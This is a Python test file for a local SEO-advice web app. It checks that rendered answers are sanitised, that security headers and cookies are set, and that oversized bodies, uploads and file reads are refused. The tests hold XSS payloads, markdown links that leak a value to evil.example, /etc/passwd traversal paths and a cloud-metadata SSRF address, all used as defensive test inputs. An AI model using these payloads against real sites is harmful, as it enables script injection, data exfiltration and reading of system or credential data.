"""The page without a browser: what HTML comes out, what is refused, and which headers every response carries."""

from __future__ import annotations

import asyncio
import errno
import json
import re
import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import html5lib
import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from advisor.care.library import Filters, browse, used_by
from advisor.engine import Advisor
from advisor.errors import AdvisorError, ServerError
from advisor.knowledge.cards import read_corpus
from advisor.models import Answer, AnswerSentence, Citation, Confidence, Elapsed, Event, Refusal, Section, Support
from advisor.settings import Settings
from advisor.web import markup
from advisor.web.chart import curves_svg
from advisor.web.chat import Chat
from advisor.web.conversations import Caller
from advisor.web.disputes import disputes_markup
from advisor.web.document import script_hashes, static_folder
from advisor.web.evidence import marked
from advisor.web.library import frame_markup, results_markup, source_markup
from advisor.web.markup import Asked
from advisor.web.sanitize import PLACE, safe
from advisor.web.serve import build_app, serve
from advisor.web.welcome import welcome_markup
from advisor.web.words import CHECKS, EVIDENCE, KINDS, readable_date

ASKED = Asked(turn="t1", question="Do links matter?")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![x](https://evil.example/p.png?d=CANARY)",
    "[text](https://evil.example/?d=CANARY)",
    "[text][r]\n\n[r]: https://evil.example/?d=CANARY",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<iframe src=//evil.example></iframe>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "' onmouseover='alert(1)",
    "line one\n\n# heading\n\n<b>bold</b>",
)
ALLOWED_HOST = "example.org"


def citation(**changes: object) -> Citation:
    fields: dict[str, object] = {
        "number": 1, "passage_id": "p", "source_id": "s", "title": "A title", "publisher": "A publisher",
        "url": f"https://{ALLOWED_HOST}/a", "published": "2026-08-28", "kind": "vendor", "interest": "sells clicks",
        "evidence": "none", "check": "confirmed", "where": "Introduction", "quote": "Links still count for much.",
    }  # fmt: skip
    return Citation.model_validate(fields | changes)


def sentence(text: str = "Links count.", **changes: object) -> AnswerSentence:
    fields: dict[str, object] = {"text": text, "citations": (1,), "support": Support(verdict="supported", score=1.0)}
    return AnswerSentence.model_validate(fields | changes)


def answer(*sections: Section, **changes: object) -> Answer:
    fields: dict[str, object] = {
        "id": "a", "conversation_id": "c", "question": "Do links matter?", "searched": "Do links matter?", "status": "answered",
        "intent": "decide", "confidence": Confidence(level="high", reason="Two sources agree."), "citations": (citation(),),
        "sections": sections or (Section(role="bottom_line", title="Bottom line", sentences=(sentence(),)),),
        "engine": "extractive", "elapsed_ms": Elapsed(), "fingerprint": "f",
    }  # fmt: skip
    return Answer.model_validate(fields | changes)


def active_nodes(html: str) -> list[str]:
    """What an HTML5 parser finds that could run, load or lead elsewhere than to the allowed host."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    loading = {"script", "img", "iframe", "object", "embed", "link", "style", "form", "base", "svg", "math", "video", "audio"}
    found = [e.tag for e in tree.iter() if e.tag in loading]
    found += [name for e in tree.iter() for name in e.attrib if name.startswith("on") or name in ("style", "src", "srcset")]
    links = [e.attrib["href"] for e in tree.iter("a") if "href" in e.attrib]
    return found + [href for href in links if not href.startswith(f"https://{ALLOWED_HOST}/") and not PLACE.fullmatch(href)]


# ---------------------------------------------------------------------------------------------------- HTML


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_text_in_any_field_stays_text(evil: str) -> None:
    sections = (
        Section(role="bottom_line", title=evil, sentences=(sentence(evil),)),
        Section(role="steps", title=evil, sentences=(sentence(f"{evil}. Measure: {evil}."),)),
        Section(role="disagreement", title=evil, sentences=(sentence(f"The record: {evil}"),)),
    )
    source = citation(title=evil, publisher=evil, interest=evil, where=evil, quote=evil, published=evil)
    given = answer(*sections, citations=(source,), follow_ups=(evil,), searched=evil, conversation_id=evil, disputes=(evil,))
    html = markup.settled(Asked(turn=evil, question=evil), given, dispute_questions=[evil])
    assert active_nodes(html) == []
    assert "\n" not in html, "a blank line would end the HTML block and let Markdown read the rest"
    shown = " ".join("".join(html5lib.parse(html).itertext()).split())
    assert " ".join(evil.split()) in shown


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "data:text/html,x", "//evil.example/x", "https://user@evil.example/", "https://[broken", "ftp://example.org/x"],
)
def test_only_web_addresses_of_cited_sources_become_links(url: str) -> None:
    html = markup.settled(ASKED, answer(citations=(citation(url=url),)))
    assert html.count("<a ") == html.count('<a href="#/source/') == 1
    assert "A title" in html


def test_a_link_to_another_host_than_a_cited_one_loses_its_address() -> None:
    html = safe('<a href="https://example.org/a">in</a><a href="https://evil.example/">out</a>', hosts={"example.org"})
    assert 'href="https://example.org/a"' in html
    assert "evil.example" not in html


def test_steps_are_numbered_and_say_what_to_measure_in_italics() -> None:
    step = Section(role="steps", title="What to do", sentences=(sentence("Rewrite the title. Measure: clicks."),))
    assert re.search(r"<ol><li>.*Rewrite the title\. <em[^>]*>Measure: clicks\.</em>", markup.settled(ASKED, answer(step)))


@pytest.mark.parametrize(("verdict", "words"), [("contradicted", "contradicted by the record"), ("unsupported", "no support found")])
def test_a_citation_that_does_not_hold_is_marked_in_words(verdict: str, words: str) -> None:
    html = markup.settled(ASKED, answer(citations=(citation(check=verdict),)))
    assert re.search(rf'doubt-{verdict}"><button[^>]*>1</button> <span class="mark">{words}</span>', html)


@pytest.mark.parametrize("verdict", ["partial", "unsupported"])
def test_a_sentence_that_its_sources_do_not_carry_is_marked_in_words(verdict: str) -> None:
    doubtful = Section(
        role="bottom_line", title="Bottom line", sentences=(sentence(support=Support.model_validate({"verdict": verdict, "score": 0.4})),)
    )
    assert re.search(rf'doubt-{verdict}"><span class="mark">(partly|not) supported by its sources', markup.settled(ASKED, answer(doubtful)))


def test_the_searched_question_is_shown_only_when_it_differs() -> None:
    assert "Searched:" not in markup.settled(ASKED, answer())
    assert "Searched:" in markup.settled(ASKED, answer(searched="Do links still matter in 2026?"))


def test_a_refusal_offers_its_suggestions_and_no_sources() -> None:
    refusal = Refusal(reason="off_topic", message="Not my field.", suggestions=("Do links matter?",))
    html = markup.settled(ASKED, answer(status="refused", refusal=refusal, sections=(), citations=()))
    assert 'data-ask="Do links matter?"' in html
    assert "cite" not in html


def test_an_answer_without_sentences_says_so() -> None:
    assert markup.NOTHING_TO_SAY in markup.settled(ASKED, answer(sections=[], citations=()))


def test_the_copied_markdown_survives_the_attribute() -> None:
    given = answer()
    button = next(
        e for e in html5lib.parse(markup.settled(ASKED, given), namespaceHTMLElements=False).iter("button") if "data-copy" in e.attrib
    )
    assert json.loads(button.attrib["data-copy"]) == given.markdown


def test_while_writing_there_are_sentences_but_no_citations_yet() -> None:
    html = markup.writing(ASKED, [Event(kind="sentence", text="Links count [1].", section="evidence", title="Why")])
    assert "<h3>Why</h3>" in html
    assert 'aria-busy="true"' in html
    assert "data-cite" not in html


@pytest.mark.parametrize(
    ("passage", "claim", "expected"),
    [
        ("Links still count.", "Links counted.", "<mark>Links still count</mark>."),
        ("Navboost uses clicks over 13 months.", "13 months of clicks", "Navboost uses <mark>clicks over 13 months</mark>."),
        ("Links. Links count.", "links", "<mark>Links</mark>. <mark>Links</mark> count."),
        ("A < B & links", "links", "A &lt; B &amp; <mark>links</mark>"),
        ("İİ links", "links", "İİ <mark>links</mark>"),
        ("Nothing shared.", "Other words", "Nothing shared."),
    ],
)
def test_the_words_that_support_a_sentence_are_marked(passage: str, claim: str, expected: str) -> None:
    assert marked(passage, claim) == expected


def test_each_sentence_marks_its_own_words_of_a_shared_passage() -> None:
    section = Section(role="evidence", title="Why", sentences=(sentence("Links count."), sentence("They count for much.")))
    html = markup.settled(ASKED, answer(section))
    assert '<p class="passage" data-sentence="0-0" hidden=""><mark>Links still count</mark> for much.</p>' in html
    assert '<p class="passage" data-sentence="0-1" hidden="">Links still <mark>count</mark> for much.</p>' in html


def test_headings_while_writing_are_those_of_the_finished_answer(advisor: Advisor) -> None:
    events = [e for e in advisor.stream("What is a step-by-step plan for better titles?") if e.kind == "sentence"]
    written = markup.writing(ASKED, events)
    assert re.findall(r"<h3>(.+?)</h3>", written) == [
        "What to expect", "Four weeks of titles: 4 weeks, about 10 hours of work; one person", "What to measure", "When to stop",
    ]  # fmt: skip


def test_every_kind_grade_and_verdict_has_a_word() -> None:
    for name, table in (("kind", KINDS), ("evidence", EVIDENCE), ("check", CHECKS)):
        schema = Citation.model_json_schema()["properties"][name]
        assert set(schema["enum"]) == set(table)


@pytest.mark.parametrize(
    ("published", "shown"),
    [("2026-08-28", "August 28, 2026"), ("2025-04", "April 2025"), ("2019", "2019"), ("2026-13", "2026-13"), ("undated", "undated")],
)
def test_dates_are_readable(published: str, shown: str) -> None:
    assert readable_date(published) == shown


def test_disputes_name_positions_interests_record_and_what_would_settle(advisor: Advisor) -> None:
    html = disputes_markup(advisor.corpus)
    for dispute in advisor.corpus.disputes:
        assert f'id="dispute-{dispute.id}"' in html
        shown = "".join(html5lib.parse(html).itertext())
        assert dispute.record in shown
        assert all(p.says in shown and p.interest in shown for p in dispute.positions)


@pytest.mark.parametrize(
    ("host", "here"), [("127.0.0.1", True), ("::1", True), ("localhost", True), ("0.0.0.0", False), ("seo.example", False)]
)
def test_no_data_leaves_this_machine_is_said_only_where_it_is_true(host: str, here: bool) -> None:
    assert ("No data leaves this machine." in welcome_markup(34, host)) is here


# ---------------------------------------------------------------------------------------------------- conversations


@pytest.fixture
def chat(advisor: Advisor) -> Chat:
    return Chat(advisor)


def last(turns: Iterator[str]) -> str:
    return list(turns)[-1]


def test_a_page_key_of_somebody_else_opens_nothing(chat: Chat) -> None:
    mine, theirs = Caller(visitor="a" * 32, page="same"), Caller(visitor="b" * 32, page="same")
    last(chat.ask("Do links matter?", mine))
    assert chat.conversations.of(theirs).answers == []
    conversation = chat.conversations.of(mine)
    assert chat.conversations.owned("a" * 32, conversation.id) is conversation
    assert chat.conversations.owned("b" * 32, conversation.id) is None
    assert chat.conversations.owned("", conversation.id) is None


def test_without_our_cookie_nothing_is_kept(chat: Chat) -> None:
    nobody = Caller(visitor="", page="p")
    last(chat.ask("Do links matter?", nobody))
    assert chat.conversations.of(nobody).answers == []


def test_trying_again_replaces_the_answer(chat: Chat) -> None:
    caller = Caller(visitor="a" * 32, page="p")
    last(chat.ask("Do links matter?", caller))
    last(chat.retry(caller))
    assert len(chat.conversations.of(caller).answers) == 1


def test_trying_again_with_nothing_asked_says_so(chat: Chat) -> None:
    assert "no question to try again" in last(chat.retry(Caller(visitor="a" * 32, page="p")))


def test_stop_keeps_what_was_written_and_the_rest_is_dropped(chat: Chat) -> None:
    caller = Caller(visitor="a" * 32, page="p")
    turns = chat.ask("Do links matter?", caller)
    next(turns)
    next(turns)
    assert 'data-state="stopped"' in (chat.stop(caller) or "")
    assert list(turns) == []
    assert chat.conversations.of(caller).answers == []
    assert chat.stop(caller) is None


def test_an_advisor_error_is_shown_as_its_line(chat: Chat, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(question: str, *, conversation_id: str | None = None) -> Iterator[Event]:
        raise AdvisorError("the index is gone", hint="Run `seo-advisor index`.")

    monkeypatch.setattr(chat.advisor, "stream", fails)
    assert "the index is gone. Run `seo-advisor index`." in last(chat.ask("x", Caller(visitor="", page="")))


def test_any_other_error_is_one_sentence_whose_id_is_in_the_log(
    chat: Chat, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fails(question: str, *, conversation_id: str | None = None) -> Iterator[Event]:
        raise RuntimeError("CANARY-7")

    monkeypatch.setattr(chat.advisor, "stream", fails)
    html = last(chat.ask("x", Caller(visitor="", page="")))
    number = re.search(r"report the id ([0-9a-f]{8})", html)
    assert number
    assert "CANARY-7" not in html
    assert number[1] in caplog.text
    assert "CANARY-7" in caplog.text


# ---------------------------------------------------------------------------------------------------- the server


def built(advisor: Advisor) -> FastAPI:
    """The application, built while an event loop runs: Gradio otherwise makes a loop for each of its locks and closes none."""

    async def build() -> FastAPI:
        return build_app(advisor, advisor.settings)

    return asyncio.run(build())


@pytest.fixture(scope="module")
def started(advisor: Advisor) -> Iterator[TestClient]:
    with pytest.MonkeyPatch.context() as patch:
        for name in ("GRADIO_TEMP_DIR", "GRADIO_ANALYTICS_CACHE_FREQUENCY"):
            patch.setenv(name, "")  # so that what the application sets is undone
        with TestClient(built(advisor), base_url="http://127.0.0.1:7860") as client:
            yield client


@pytest.fixture
def client(started: TestClient) -> TestClient:
    """The server, for a visitor who has not been there before."""
    started.cookies.clear()
    return started


@pytest.mark.parametrize(
    "path", ["/", "/healthz", "/config", "/gradio_api/info", f"{static_folder()}/page.js", "/nothing", "/gradio_api/upload"]
)
def test_every_response_carries_the_policy(client: TestClient, path: str) -> None:
    headers = client.get(path).headers
    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'self'"
    assert policy["connect-src"] == "'self'"
    assert policy["img-src"] == "'self' data:"
    assert policy["frame-ancestors"] == "'self'"
    assert policy["base-uri"] == "'none'"
    assert "unsafe" not in policy["script-src"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"


def test_the_document_names_each_of_its_scripts_and_nothing_of_another_site(client: TestClient) -> None:
    response = client.get("/")
    for digest in script_hashes(response.content):
        assert f"'{digest}'" in response.headers["content-security-policy"]
    head = response.text.split("</head>")[0]
    assert "<base" not in head
    assert not re.search(r'(?:src|href|content)="https?://', head)
    assert "<title>SEO Advisor</title>" in head


def test_a_visitor_gets_one_cookie_that_scripts_cannot_read(client: TestClient) -> None:
    first = client.get("/").headers["set-cookie"]
    assert re.fullmatch(r"advisor_visitor=[0-9a-f]{32}; HttpOnly; Path=/; SameSite=Lax", first)
    assert "set-cookie" not in client.get("/").headers
    client.cookies.clear()
    assert "set-cookie" in client.get("/", headers={"cookie": "advisor_visitor=made-up"}).headers


def test_a_space_may_be_framed_by_its_host_and_keeps_its_cookie_there(advisor: Advisor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPACE_ID", "someone/seo-advisor")
    headers = TestClient(built(advisor)).get("/").headers
    assert headers["content-security-policy"].endswith("frame-ancestors 'self' https://huggingface.co")
    assert headers["set-cookie"].endswith("SameSite=None; Secure; Partitioned")


@pytest.mark.parametrize("size", [70_000, 5_000_000])
def test_a_large_body_is_refused_before_it_is_read(client: TestClient, size: int) -> None:
    assert client.post("/gradio_api/call/chat", json={"data": ["x" * size]}).status_code == 413


def test_a_large_body_that_hides_its_length_is_refused_too(client: TestClient) -> None:
    parts = (b"x" * 10_000 for _ in range(20))
    assert client.post("/gradio_api/call/chat", content=parts).status_code == 413


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../etc/passwd", "/gradio_api/file=http://169.254.169.254/",
        "/gradio_api/proxy=http://169.254.169.254/", f"{static_folder()}/serve.py", f"{static_folder()}/..%2fserve.py", "/docs", "/openapi.json",
        "/conversations/01J.md", "/monitoring",
    ],
)  # fmt: skip
def test_nothing_else_can_be_read(client: TestClient, path: str) -> None:
    assert client.get(path).status_code in (403, 404)


def test_files_are_not_taken(client: TestClient) -> None:
    assert client.post("/gradio_api/upload", files={"files": b"x"}).status_code == 404


def test_another_origin_is_not_let_in(client: TestClient) -> None:
    response = client.get("/config", headers={"origin": "http://evil.example"})
    assert "access-control-allow-origin" not in response.headers


def test_programs_ask_by_one_name_and_get_the_stable_json(client: TestClient) -> None:
    assert list(client.get("/gradio_api/info").json()["named_endpoints"]) == ["/chat"]
    event = client.post("/gradio_api/call/chat", json={"data": ["Do links matter?"]}).json()["event_id"]
    lines = client.get(f"/gradio_api/call/chat/{event}").text.splitlines()
    (given,) = json.loads(lines[1].removeprefix("data: "))
    assert lines[0] == "event: complete"
    assert Answer.model_validate(given).question == "Do links matter?"


def test_a_question_over_the_limit_is_refused_in_words(client: TestClient) -> None:
    event = client.post("/gradio_api/call/chat", json={"data": ["links " * 5_000]}).json()["event_id"]
    text = client.get(f"/gradio_api/call/chat/{event}").text
    assert "the limit is 2,000" in text


def test_gradio_writes_only_inside_the_data_folder(client: TestClient, advisor: Advisor) -> None:
    from gradio.utils import get_upload_folder

    assert Path(get_upload_folder()).is_relative_to(advisor.settings.data_dir)


def test_a_taken_port_is_said_at_once_with_what_to_do(settings: Settings) -> None:
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        with pytest.raises(ServerError) as caught:
            serve(settings.model_copy(update={"port": port}))
    assert caught.value.line == (
        f"port {port} on 127.0.0.1 is in use. Stop the other program or choose another port: seo-advisor serve --port {port + 1}"
    )


def test_an_address_of_another_machine_is_an_error_too(settings: Settings) -> None:
    with pytest.raises(ServerError, match=r"could not listen on 192\.0\.2\.1") as caught:
        serve(settings.model_copy(update={"host": "192.0.2.1"}))
    assert isinstance(caught.value.__cause__, OSError)
    assert caught.value.__cause__.errno == errno.EADDRNOTAVAIL


# ---------------------------------------------------------------------------------------------------- the library


def test_the_library_lists_filters_and_searches(client: TestClient) -> None:
    assert client.get("/library").text.count('class="shelf"') == 4
    court = client.get("/library", params={"kind": "court"}).text
    assert "#/source/court-clicks" in court
    assert "title-study" not in court
    found = client.get("/library", params={"q": "pogo-sticking"}).text
    assert re.findall(r'<h3><a href="#/source/([a-z-]+)"', found)[0] == "title-study"
    assert "Nothing found" in client.get("/library", params={"kind": "paper"}).text


def test_a_wrong_filter_and_an_unknown_source_are_told_plainly(client: TestClient) -> None:
    wrong = client.get("/library", params={"kind": "<b>"})
    assert (wrong.status_code, wrong.headers["content-type"]) == (400, "text/plain; charset=utf-8")
    assert client.get("/library/no-such-source").status_code == 404


def test_the_page_of_a_source_shows_each_statement_with_its_verdict_and_what_decides_it(advisor: Advisor) -> None:
    corpus = advisor.corpus
    source = advisor.source("title-study")
    own = tuple(p for p in corpus.passages if p.source.id == source.id)
    page = source_markup(replace(source, url=f"https://{ALLOWED_HOST}/a"), own, used_by(corpus, source), corpus)
    for p in own:
        assert f'id="passage-{p.id.split("/")[1]}"' in page
    assert 'href="#/source/court-clicks/no-single-visit"' in page
    assert "The experiment measured clicks and not rankings." in page
    assert active_nodes(page) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_in_a_search_or_a_card_stay_words(advisor: Advisor, client: TestClient, text: str) -> None:
    answer = client.get("/library", params={"q": text})
    assert answer.status_code == 200
    assert active_nodes(answer.text) == []
    shelf = browse(advisor.corpus, Filters(kind="court"))[0]
    hostile = replace(shelf, source=replace(shelf.source, title=text, publisher=text, interest=text))
    assert active_nodes(results_markup([hostile], searched=True)) == []


def test_places_on_the_page_stay_linked_and_other_schemes_do_not() -> None:
    kept = safe('<a href="#/source/a-b/c">x</a><a href="#/library?q=a+b&amp;kind=court">y</a>')
    assert 'href="#/source/a-b/c"' in kept
    assert "kind=court" in kept
    dropped = safe('<a href="#/x y"">x</a><a href="//evil.example">y</a><img src="https://evil.example/p.png"><img src="/library/../x">')
    assert "href" not in dropped
    assert "src" not in dropped
    assert "<input" not in safe("<form><input name=q></form>")


def test_the_click_curves_are_drawn_for_light_and_dark_and_given_as_figures() -> None:
    corpus = read_corpus(Path(__file__).parent.parent / "corpus")
    for theme in ("light", "dark"):
        drawn = curves_svg(corpus.curves, theme)
        assert drawn.count("<polyline") == sum(c.use != "split" for c in corpus.curves)
    frame = frame_markup(corpus)
    assert "<td>28.5</td>" in frame
    assert 'alt="Click-through rate by position' in frame


def test_the_map_of_disputes_has_a_row_for_each_and_leads_to_it(advisor: Advisor) -> None:
    markup_of_all = disputes_markup(advisor.corpus)
    for dispute in advisor.corpus.disputes:
        assert f'href="#/dispute/{dispute.id}"' in markup_of_all
        assert f'id="dispute-{dispute.id}"' in markup_of_all
